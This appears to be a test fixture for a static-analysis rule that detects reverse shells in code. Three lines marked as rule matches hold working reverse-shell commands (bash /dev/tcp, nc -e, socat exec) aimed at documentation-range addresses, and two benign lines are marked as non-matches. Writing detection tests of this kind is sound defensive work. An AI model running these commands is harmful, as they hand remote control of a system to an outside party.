package main

func main() {
	// ruleid: any.proc.reverse_shell
	exec.Command("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").Run()
	// ruleid: any.proc.reverse_shell
	system("nc -e /bin/sh 198.51.100.2 9001")
	// ruleid: any.proc.reverse_shell
	run("socat tcp:203.0.113.9:4444 exec:sh,pty,stderr")
	// ok: any.proc.reverse_shell
	conn, _ := net.Dial("tcp", "example.com:80")
	// ok: any.proc.reverse_shell
	fmt.Println("nc -z localhost 80")
}
